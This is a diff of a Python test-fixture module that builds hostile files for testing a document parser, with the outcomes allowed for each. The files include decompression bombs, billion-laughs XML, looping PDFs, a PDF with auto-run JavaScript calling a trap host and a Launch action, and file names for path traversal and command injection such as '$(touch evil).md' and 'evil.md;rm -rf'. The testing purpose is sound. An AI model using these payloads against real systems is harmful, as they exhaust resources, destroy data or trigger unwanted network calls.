@@ -1,4 +1,4 @@
-"""Files made to do harm, and how each must end; all are made here, none is kept."""
+"""Makes hostile files, with the outcomes that are allowed for each."""
 
 import io
 import struct
@@ -10,13 +10,13 @@ from dataclasses import dataclass
 from tests.pdf_maker import make_pdf
 
 TRAP = "@TRAP@"
-"""Stands in a file for the address of a server that counts who comes."""
+"""A placeholder for the address of the trap server, which counts connections."""
 MB = 2**20
 
 
 @dataclass(frozen=True)
 class Case:
-    """A file that was made to do harm; `ends` are the ways it may end: `completed`, `error:CODE`, `refused:CODE`."""
+    """A hostile file; `ends` are its allowed outcomes: `completed`, `error:CODE`, `refused:CODE`."""
 
     name: str
     make: Callable[[], bytes]
@@ -48,7 +48,7 @@ def document_xml(text: str = "Harmless words.", head: str = "") -> str:
 
 
 def docx(parts: Mapping[str, str | bytes] | None = None) -> bytes:
-    """A small Word file with further parts, or other ones."""
+    """A small Word file, with parts added or replaced."""
     entries = {"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS, "word/document.xml": document_xml()}
     return zipped({**entries, **(parts or {})})
 
@@ -94,7 +94,7 @@ def many_entries() -> bytes:
 
 
 def overlapping() -> bytes:
-    """Two names in the directory for the same bytes."""
+    """An archive whose directory has two names for the same bytes."""
     data = docx({"word/a.xml": "x" * 1000})
     directory = data.index(b"PK\x01\x02")
     end = data.rindex(b"PK\x05\x06")
@@ -108,7 +108,7 @@ def overlapping() -> bytes:
 
 
 def laughs(depth: int = 10) -> str:
-    """The billion laughs: each name stands for ten of the one before."""
+    """The billion laughs attack: each entity expands to ten of the one before."""
     names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth))
     return f'<!DOCTYPE x [<!ENTITY l0 "ha">{names}]>'
 
@@ -132,7 +132,7 @@ def remote_template() -> bytes:
 
 
 def xlsx(sheet: str, strings: str = "") -> bytes:
-    """A workbook of one sheet, whose XML this is."""
+    """A workbook of one sheet with this XML."""
     main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
     office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
     package = "http://schemas.openxmlformats.org/package/2006"
@@ -154,10 +154,8 @@ def xlsx(sheet: str, strings: str = "") -> bytes:
 
 
 def huge_sheet() -> bytes:
-    """Two cells, as far apart as a sheet is: taken at its word it has 17 thousand million."""
-    cells = (
-        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
-    )  # fmt: skip
+    """A sheet with two cells in opposite corners; its declared size is 17 thousand million cells."""
+    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
     return xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData>')
 
 
@@ -165,7 +163,7 @@ def huge_sheet() -> bytes:
 
 
 def pdf(objects: list[bytes], extra: bytes = b"") -> bytes:
-    """A PDF of these objects, the first of which is its catalogue."""
+    """A PDF of these objects; the first one is its catalogue."""
     out, places = b"%PDF-1.7\n", []
     for number, content in enumerate(objects, start=1):
         places.append(len(out))
@@ -185,12 +183,18 @@ def stream(content: bytes, filters: bytes = b"") -> bytes:
     return b"<< /Length " + str(len(content)).encode() + filters + b" >>\nstream\n" + content + b"\nendstream"
 
 
+_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
+"""A page with the content of object 4 and the font of object 5."""
+
+
 def page_loop() -> bytes:
-    return pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 /Parent 3 0 R >>",
-        b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 1000000 /Parent 2 0 R >>",
-    ])  # fmt: skip
+    return pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 /Parent 3 0 R >>",
+            b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 1000000 /Parent 2 0 R >>",
+        ]
+    )
 
 
 def many_objects() -> bytes:
@@ -205,43 +209,49 @@ def many_objects() -> bytes:
 
 
 def many_pages() -> bytes:
-    """One page that is in the book a million times."""
+    """A PDF that contains one page a million times."""
     kids = b"3 0 R " * 1_000_000
-    return pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Count 1000000 /Kids [" + kids + b"] >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
-    ])  # fmt: skip
+    return pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Count 1000000 /Kids [" + kids + b"] >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+        ]
+    )
 
 
 def stream_bomb() -> bytes:
     squeezer = zlib.compressobj(9)
     packed = b"".join([*(squeezer.compress(b"(a) Tj " * 150_000) for _ in range(600)), squeezer.flush()])
     twice = zlib.compress(packed, 9)
-    return pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
-        stream(twice, b" /Filter [/FlateDecode /FlateDecode]"),
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-    ])  # fmt: skip
+    return pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            _PAGE,
+            stream(twice, b" /Filter [/FlateDecode /FlateDecode]"),
+            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        ]
+    )
 
 
 def active_pdf() -> bytes:
-    """A page of words in a file that wants to run a program, a script and a link when it is opened."""
+    """A page of text in a PDF that starts a program, a script and a link when it is opened."""
     text = b"BT /F 12 Tf 72 700 Td (Harmless words on a page.) Tj ET"
-    return pdf([
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> "
-        b"/Names << /JavaScript << /Names [(x) 6 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 8 0 R] >> >> >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
-        stream(text),
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-        f"<< /S /JavaScript /JS (this.submitForm('http://{TRAP}/');app.launchURL('http://{TRAP}/')) >>".encode(),
-        b"<< /S /Launch /F (/bin/true) >>",
-        b"<< /Type /Filespec /F (../../evil.exe) /EF << /F 9 0 R >> >>",
-        stream(b"MZ" + b"\x90" * 100),
-    ])  # fmt: skip
+    return pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> "
+            b"/Names << /JavaScript << /Names [(x) 6 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 8 0 R] >> >> >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            _PAGE,
+            stream(text),
+            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+            f"<< /S /JavaScript /JS (this.submitForm('http://{TRAP}/');app.launchURL('http://{TRAP}/')) >>".encode(),
+            b"<< /S /Launch /F (/bin/true) >>",
+            b"<< /Type /Filespec /F (../../evil.exe) /EF << /F 9 0 R >> >>",
+            stream(b"MZ" + b"\x90" * 100),
+        ]
+    )
 
 
 def polyglot_pdf() -> bytes:
@@ -260,7 +270,8 @@ def remote_html() -> bytes:
         f'<{tag} {attribute}="http://{TRAP}/{tag}"></{tag}>'
         for tag, attribute in (("img", "src"), ("link", "href"), ("script", "src"), ("iframe", "src"), ("base", "href"))
     )
-    return f'<!DOCTYPE html SYSTEM "http://{TRAP}/x.dtd"><html><head>{tags}</head><body><p>Harmless words.</p></body>'.encode()
+    body = "<body><p>Harmless words.</p></body>"
+    return f'<!DOCTYPE html SYSTEM "http://{TRAP}/x.dtd"><html><head>{tags}</head>{body}'.encode()
 
 
 def deep_mail() -> bytes:
@@ -276,7 +287,8 @@ def mail_with_bomb() -> bytes:
 
     bomb = base64.encodebytes(zip_bomb()).decode()
     return (
-        "From: a@example.org\r\nSubject: A bomb\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+        "From: a@example.org\r\nSubject: A bomb\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
         f"--b\r\nContent-Type: text/html\r\n\r\n<p>Harmless words.</p><img src='http://{TRAP}/pixel'>\r\n"
         "--b\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n"
         'Content-Disposition: attachment; filename="../../bomb.docx"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
@@ -285,7 +297,7 @@ def mail_with_bomb() -> bytes:
 
 
 def png(width: int, height: int) -> bytes:
-    """A picture of one colour that says it is so large."""
+    """A one-colour image with this size in its header."""
 
     def piece(kind: bytes, content: bytes) -> bytes:
         return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
@@ -313,8 +325,11 @@ CASES = (
     Case("external_http.docx", lambda: docx({"word/document.xml": external(f"http://{TRAP}/x")}), UNSAFE),
     Case("remote_template.docx", remote_template, READ),
     Case("huge_sheet.xlsx", huge_sheet, ("completed", "error:limit", "error:unsafe")),
-    Case("billion_laughs.xlsx", lambda: xlsx("<sheetData><row><c t='str'><v>&l9;</v></c></row></sheetData>", laughs()),
-         ("error:unsafe", "error:broken")),
+    Case(
+        "billion_laughs.xlsx",
+        lambda: xlsx("<sheetData><row><c t='str'><v>&l9;</v></c></row></sheetData>", laughs()),
+        ("error:unsafe", "error:broken"),
+    ),
     Case("page_loop.pdf", page_loop, (*BROKEN, "error:limit", "error:scanned")),
     Case("many_objects.pdf", many_objects, (*BROKEN, "error:limit", "error:scanned")),
     Case("many_pages.pdf", many_pages, (*BROKEN, "error:limit", "error:scanned")),
@@ -331,9 +346,16 @@ CASES = (
     Case("many_references.md", lambda: b"".join(b"[a%d]: x\n" % n for n in range(20_000)) + b"[a1]" * 20_000, READ),
     Case("one_line.txt", lambda: b"word " * (MB // 2), READ),
     Case("one_word.md", lambda: b"w" * MB, READ),
-    Case("invalid.txt", lambda: b"Harmless words \xff\xfe\xc3\x28 and \xed\xa0\x80 more.\n" * 50,
-         ("completed", "error:not_utf8", "refused:unsupported")),
-    Case("bidi.txt", lambda: "Harmless \u202etxt.exe\u202c words\u200b\u2060\ufeff \U000e0041\U000e0042.\n".encode(), READ),
+    Case(
+        "invalid.txt",
+        lambda: b"Harmless words \xff\xfe\xc3\x28 and \xed\xa0\x80 more.\n" * 50,
+        ("completed", "error:not_utf8", "refused:unsupported"),
+    ),
+    Case(
+        "bidi.txt",
+        lambda: "Harmless \u202etxt.exe\u202c words\u200b\u2060\ufeff \U000e0041\U000e0042.\n".encode(),
+        READ,
+    ),
     Case("controls.txt", lambda: bytes(n % 8 + 1 for n in range(64)) * (9 * MB // 64), ("refused:unsupported",)),
     Case("columns.csv", lambda: b"a," * 999_999 + b"a\n" + b"1," * 999_999 + b"1\n", ("completed", "error:limit")),
     Case("quote.csv", lambda: b'a,b\n"' + b"x," * (3 * MB), ("completed", "error:limit", "error:broken")),
@@ -342,10 +364,22 @@ CASES = (
     Case("deep.eml", deep_mail, ("completed", "error:limit", "error:empty")),
     Case("bomb.eml", mail_with_bomb, READ),
     Case("huge.png", lambda: png(60_000, 60_000), ("error:limit", "error:broken", "error:scanned", "error:empty")),
-)  # fmt: skip
+)
 
 NAMES = (
-    "../../evil.md", "/tmp/evil.md", "..\\..\\evil.md", "C:\\evil.md", "nul\0byte.md", "a" * 4096 + ".md",
-    "\u202efdp.md", ".htaccess", "trailing.md.", "line\nbreak.md", "..", "con.md", "$(touch evil).md", "evil.md;rm -rf",
-)  # fmt: skip
-"""What somebody may call a file to have it written elsewhere."""
+    "../../evil.md",
+    "/tmp/evil.md",
+    "..\\..\\evil.md",
+    "C:\\evil.md",
+    "nul\0byte.md",
+    "a" * 4096 + ".md",
+    "\u202efdp.md",
+    ".htaccess",
+    "trailing.md.",
+    "line\nbreak.md",
+    "..",
+    "con.md",
+    "$(touch evil).md",
+    "evil.md;rm -rf",
+)
+"""File names that try to write elsewhere or to confuse."""
